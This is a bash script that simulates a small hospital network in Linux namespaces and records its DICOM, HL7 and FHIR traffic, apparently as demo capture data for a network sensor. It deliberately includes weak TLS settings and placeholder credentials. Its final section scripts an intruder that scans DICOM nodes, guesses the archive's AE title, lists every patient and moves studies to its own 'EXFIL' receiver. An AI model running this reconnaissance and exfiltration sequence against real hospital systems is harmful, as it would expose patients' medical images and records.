#!/usr/bin/env bash
# Records demo/hospital.pcapng: some minutes of a small hospital, its troubles, and an intruder in it (needs root):   demo/record.sh
#
#   CT (DCMTK), MR (pynetdicom), ultrasound (dcmjs-dimse) fetch worklists (DCMTK wlmscpfs), report procedure steps (pynetdicom), store into
#   the archive (Orthanc) and ask it to commit; a workstation queries and retrieves (DCMTK) and views in a browser (DICOMweb, curl). HIS and
#   RIS send ADT and orders, the patient monitor sends PCD-01 reports and an alarm (python-hl7) and the lab analyzer results (HAPI) to the
#   interface engine (HAPI, node-hl7-server); RIS and a portal use FHIR (HAPI FHIR, fhirpy).
#   Then the troubles that demo/README.md lists, among them a service visit (OpenSSH, BusyBox DHCP) and a mirror port that loses frames.
#   Last, 10.20.0.99 looks for DICOM nodes, guesses the archive's AE title, lists its patients, and has studies moved to itself.
set -uo pipefail
cd "$(dirname "$(realpath "$0")")"
[ "$(id -u)" = 0 ] || { echo "record: needs root, for network namespaces" >&2; exit 1; }
for program in busybox /usr/sbin/sshd; do
  command -v "$program" >/dev/null || { echo "record: $program is missing: apt-get install busybox openssh-server" >&2; exit 1; }
done
../test/captures/record/peers.sh
source ../test/captures/record/lib.sh
DEMO=$REPO/demo
F=$WORK/files
M=$MESSAGES
PYNET="$PYTHON $RECORD_DIR/dicom_peer.py"
PYHL7="$PYTHON $RECORD_DIR/hl7_peer.py"
RAW="$PYTHON $RECORD_DIR/raw_mllp.py"
NODEHL7="$NODE $RECORD_DIR/hl7_peer.ts"
DCMJS="$NODE $RECORD_DIR/dcmjs_peer.ts"
WEB="$PEERS/web/bin/python $RECORD_DIR/web_peer.py"
FHIR="env -C $WORK CLASSPATH=$PEERS/fhir/lib/* java -XX:+UseSerialGC -XX:TieredStopAtLevel=1 $RECORD_DIR/FhirPeer.java"
CURL="curl -s -o /dev/null --max-time 20"
STUDY=1.2.826.0.1.3680043.10.1.77777
ENGINE=10.20.0.50
# Nobody has these addresses (RFC 7526), and the sensor takes them for public.
OUTSIDE=192.88.99
quietly() { "$@" >>"$WORK/quiet.log" 2>&1; }
"$PYTHON" "$DEMO/make_studies.py" "$F"
mkdir -p "$WORK/db" "$WORK/received" "$WORK/stolen"
sed "s#@DIR@#$WORK#g" "$DEMO/orthanc.json.in" > "$WORK/orthanc.json"

# A certificate: NAME COMMON-NAME FIRST-DAY LAST-DAY, days as YYYYMMDD.
certificate() {
  local folder=$WORK/$1
  mkdir -p "$folder"
  printf '[ca]\ndefault_ca=own\n[own]\ndatabase=%s/index\nnew_certs_dir=%s\nrand_serial=yes\ndefault_md=sha256\npolicy=any\n[any]\norganizationName=optional\ncommonName=supplied\n' \
    "$folder" "$folder" > "$folder/ca.conf"
  touch "$folder/index"
  openssl req -newkey rsa:2048 -nodes -subj "/O=General Hospital/CN=$2" -keyout "$folder/server.key" -out "$folder/server.csr" 2>/dev/null
  openssl ca -batch -selfsign -config "$folder/ca.conf" -keyfile "$folder/server.key" -in "$folder/server.csr" -out "$folder/server.crt" -notext \
    -startdate "${3}000000Z" -enddate "${4}000000Z" 2>/dev/null
}
certificate engine engine.hospital.example 20260101 20281231
certificate lis lis.hospital.example 20190301 20220228
certificate service service.manufacturer.example 20260101 20281231

# The border of the hospital: a router, and one host outside, which is the manufacturer's service and whoever else is out there.
border() {
  host gateway 10.20.0.1 00:09:0f:09:00:01                # Fortinet
  ip netns add wwr-outside
  ip -n wwr-gateway link add wan type veth peer name eth0 netns wwr-outside
  ip -n wwr-gateway address add "$OUTSIDE.1/24" dev wan
  ip -n wwr-gateway link set wan up
  ip -n wwr-outside address add "$OUTSIDE.10/24" dev eth0
  ip -n wwr-outside address add "$OUTSIDE.77/24" dev eth0
  ip -n wwr-outside link set eth0 up
  ip -n wwr-outside route add 10.20.0.0/24 via "$OUTSIDE.1" src "$OUTSIDE.77"
  ip netns exec wwr-gateway sysctl -qw net.ipv4.ip_forward=1
  for name in ct archive; do ip -n "wwr-$name" route add default via 10.20.0.1; done
}

# DHCP as devices do it: the router gives 10.20.0.14, and the ultrasound unit asks for it under its own name.
cat > "$WORK/udhcpd.conf" <<CONF
start 10.20.0.14
end 10.20.0.14
interface eth0
lease_file $WORK/leases
option subnet 255.255.255.0
option router 10.20.0.1
option domain hospital.example
CONF
cat > "$WORK/udhcpc.sh" <<'SCRIPT'
#!/bin/sh
[ "$1" = bound ] && ip address flush dev "$interface" && ip address add "$ip/$mask" dev "$interface"
exit 0
SCRIPT
chmod +x "$WORK/udhcpc.sh"
touch "$WORK/leases"
# Its own keys and no way in: a service visit is a connection, whatever comes after the key exchange.
ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh_key"
mkdir -p /run/sshd

hospital
border
host laptop 10.20.0.91 54:e1:ad:31:91:07                   # LCFC (Lenovo)
host intruder 10.20.0.99 28:cd:c1:0b:ad:99                 # Raspberry Pi
number=80
for name in dx1 cr1 mg1 nm1 pt1 rf1 xa1 us2 us3 dose; do   # nodes that only listen
  host $name 10.20.0.$number 00:1d:4a:50:01:$number        # Carestream Health
  serve $name 104 storescp -q -aet "${name^^}" -od "$WORK/received" 104
  number=$((number + 1))
done
serve archive 104 Orthanc "$WORK/orthanc.json"
serve ris 104 wlmscpfs -q -dfp "$F/worklist" 104
serve ris 11112 $PYNET scp --port 11112 --aet RISMPPS
serve workstation 11112 storescp -q -aet WS01 -od "$WORK/received" 11112
serve ct 104 $PYNET listener --port 104 --aet CT01
serve engine 2575 $HAPI serve 2575 AA
serve engine 6661 $NODEHL7 serve 6661 AA
serve engine 2576 $NODEHL7 serve 2576 AA "$WORK/engine"
serve engine 2577 $HAPI serve 2577 CR
serve engine 2578 $PYHL7 serve 2578 none
serve engine 2579 $RAW serve 2579
serve engine 8080 $FHIR serve 8080
serve engine 443 openssl s_server -quiet -www -accept 443 -cert "$WORK/lis/server.crt" -key "$WORK/lis/server.key" -tls1 -cipher 'ALL:@SECLEVEL=0'
serve outside 443 openssl s_server -quiet -www -accept 443 -cert "$WORK/service/server.crt" -key "$WORK/service/server.key"
serve us 22 /usr/sbin/sshd -D -f /dev/null -h "$WORK/ssh_key" -o PidFile=none
serve intruder 4242 storescp -q -aet EXFIL -od "$WORK/stolen" 4242
on gateway busybox udhcpd -f -S "$WORK/udhcpd.conf" &
SERVER_PIDS+=($!)
sleep 1

worklist_query() { on "$1" findscu -q -aet "$2" -aec RISWL -W -k 0010,0010 -k 0010,0020 -k 0008,0050 -k "(0040,0100)[0].0008,0060=$3" -k "(0040,0100)[0].0040,0001=$2" 10.20.0.40 104; }
study_key() { echo "0020,000D=$STUDY.$1"; }

say "recording, about four minutes"
begin hospital "$WORK/hospital.pcap"
on monitor $PYHL7 repeat $ENGINE 2575 115 2 "$M/oru-pcd01.hl7" &
MONITOR=$!

# Admission, order, computed tomography.
on ris $PYHL7 send $ENGINE 2575 "$M/adt-a01.hl7"
sleep 6
on ris $PYHL7 send $ENGINE 2575 "$M/orm-o01.hl7"
sleep 6
on ct echoscu -q -aet CT01 -aec ARCHIVE 10.20.0.20 104
worklist_query ct CT01 CT
sleep 8
on ct $PYNET mpps --peer 10.20.0.40 --port 11112 --aet CT01 --aec RISMPPS >/dev/null
on ct storescu -q -R -aet CT01 -aec ARCHIVE 10.20.0.20 104 "$F"/ct-[0-9]*.dcm
on ct $PYNET commit --peer 10.20.0.20 --port 104 --aet CT01 --aec ARCHIVE --linger 3 >/dev/null

# Magnetic resonance, ultrasound, lab.
worklist_query mr MR01 MR
sleep 8
on mr $PYNET store "$F"/mr-*.dcm --peer 10.20.0.20 --port 104 --aet MR01 --aec ARCHIVE >/dev/null
quietly on lab $HAPI send $ENGINE 6661 "$M/oru-lab.hl7"
worklist_query us US01 US
sleep 6
quietly on us $DCMJS store 10.20.0.20 104 US01 ARCHIVE "$F"/us-[0-9]*.dcm

# A radiologist reads, at the workstation and in a browser, in which the first try is without a password.
on workstation findscu -q -aet WS01 -aec ARCHIVE -S -k 0008,0052=STUDY -k 0010,0020=WWPHI0001 -k 0020,000D -k 0008,0050 10.20.0.20 104
on workstation movescu -q -aet WS01 -aec ARCHIVE -aem WS01 -S -k 0008,0052=STUDY -k "$(study_key 1)" 10.20.0.20 104
sleep 10
on ris $PYHL7 send $ENGINE 2575 "$M/mdm-t02.hl7" "$M/adt-a08.hl7"
on workstation findscu -q -aet WS01 -aec ARCHIVE -S -k 0008,0052=STUDY -k 0010,0020=WWPHI0002 -k 0020,000D 10.20.0.20 104
on workstation movescu -q -aet WS01 -aec ARCHIVE -aem WS01 -S -k 0008,0052=STUDY -k "$(study_key 2)" 10.20.0.20 104
BROWSER=http://10.20.0.20:8042/dicom-web/studies
on workstation $CURL "$BROWSER?PatientID=WWPHI0004"
on workstation $CURL -u WWPHIuser:WWPHIsecret "$BROWSER?PatientID=WWPHI0004" --next -s -o /dev/null -u WWPHIuser:WWPHIsecret "$BROWSER/$STUDY.4"
sleep 3

# Systems exchange what they know by FHIR, without any encryption; orders go by TLS.
quietly on ris $FHIR use http://$ENGINE:8080/fhir
quietly on workstation $WEB fhir http://$ENGINE:8080/fhir
quietly on ris $NODEHL7 tls $ENGINE 2576 "$M/adt-a01.hl7"
on monitor $PYHL7 send $ENGINE 2575 "$M/oru-pcd04.hl7"
sleep 3

# Troubles: a refused admission, results that nobody acknowledges, a home-made sender, and a laboratory system of another age.
on ris $PYHL7 send $ENGINE 2577 "$M/adt-enhanced.hl7"
quietly on lab $PYHL7 send $ENGINE 2578 "$M/oru-lab.hl7"
quietly on ris $RAW send $ENGINE 2579 lf "$M/siu-s12.hl7"
on lab $CURL -k --tls-max 1.0 --tlsv1.0 --ciphers 'DEFAULT@SECLEVEL=0' --resolve lis.hospital.example:443:$ENGINE https://lis.hospital.example/
sleep 3

# The border: the scanner reports to its manufacturer, and somebody outside finds the archive through a rule that nobody remembers.
on ct $CURL -k --resolve service.manufacturer.example:443:$OUTSIDE.10 https://service.manufacturer.example/
sleep 2
on outside echoscu -q -aet ECHOSCU -aec ARCHIVE 10.20.0.20 104
sleep 4

# A service visit: a laptop logs on to the ultrasound unit, which comes back with another address and another software version.
quietly on laptop ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null service@10.20.0.13
sleep 4
quietly on us busybox udhcpc -f -n -q -i eth0 -s "$WORK/udhcpc.sh" -V '' -x hostname:US01
sleep 2
quietly on us $DCMJS store 10.20.0.20 104 US01 ARCHIVE "$F"/us-updated-*.dcm
sleep 3

# The mirror port is too slow for what follows: see below.
LOSS_BEGIN=$(date +%s.%6N)
on ct storescu -q -R -aet CT01 -aec ARCHIVE 10.20.0.20 104 "$F"/ct-second-*.dcm
LOSS_END=$(date +%s.%6N)
sleep 5

# The intruder looks around.
for last in 80 81 82 83 84 85 86 87 88 89 20 40; do
  on intruder echoscu -q -aet ECHOSCU -aec ANY-SCP 10.20.0.$last 104
  sleep 0.7
done
sleep 4
for title in PACS ORTHANC DICOM STORESCP SERVER PACS_SCP IMAGES ARCHIVE; do
  on intruder echoscu -q -aet ECHOSCU -aec $title 10.20.0.20 104
  sleep 1.2
done
sleep 4
on intruder findscu -q -aet ECHOSCU -aec ARCHIVE -P -k 0008,0052=PATIENT -k 0010,0010="*" -k 0010,0020 -k 0010,0030 10.20.0.20 104
sleep 3
on intruder movescu -q -aet ECHOSCU -aec ARCHIVE -aem EXFIL -S -k 0008,0052=STUDY -k "$(study_key 1)" 10.20.0.20 104
on intruder movescu -q -aet ECHOSCU -aec ARCHIVE -aem EXFIL -S -k 0008,0052=STUDY -k "$(study_key 2)" 10.20.0.20 104
sleep 4

# Life goes on.
on workstation findscu -q -aet WS01 -aec ARCHIVE -S -k 0008,0052=STUDY -k 0010,0020=WWPHI0004 -k 0020,000D 10.20.0.20 104
on ris $PYHL7 send $ENGINE 2575 "$M/adt-a03.hl7"
wait $MONITOR
finish

# What tcpdump dropped is written into the file; what a mirror port loses, nobody tells: these frames are taken away.
DROPPED=$(grep -o '^[0-9]* packets dropped by kernel' "$WORK/tcpdump.log" | cut -d' ' -f1)
"$NODE" "$REPO/test/captures/derive.ts" "$CAPTURE" "$DEMO/hospital.pcapng" \
  "[{\"loss\": 0.03, \"seed\": 7, \"from\": $LOSS_BEGIN, \"to\": $LOSS_END}, {\"format\": \"pcapng\", \"dropped\": ${DROPPED:-0}}]"
say "hospital.pcapng: $(stat -c %s "$DEMO/hospital.pcapng") bytes"
[ -z "${KEEP_WORK:-}" ] || cp "$CAPTURE" "$KEEP_WORK"
